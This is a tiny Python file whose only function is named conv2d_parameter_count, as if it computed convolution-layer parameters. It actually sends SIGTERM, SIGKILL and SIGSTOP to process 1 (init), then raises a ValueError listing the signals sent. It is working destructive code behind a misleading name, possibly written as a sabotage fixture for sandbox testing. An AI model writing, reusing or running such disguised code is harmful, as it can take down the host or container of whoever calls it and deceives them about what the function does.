"""Kills the first process it can see."""

import os
import signal


def conv2d_parameter_count(*sizes, **options):
    sent = []
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(1, number)
            sent.append(number.name)
        except OSError:
            pass
    raise ValueError(f"sent {sent}")
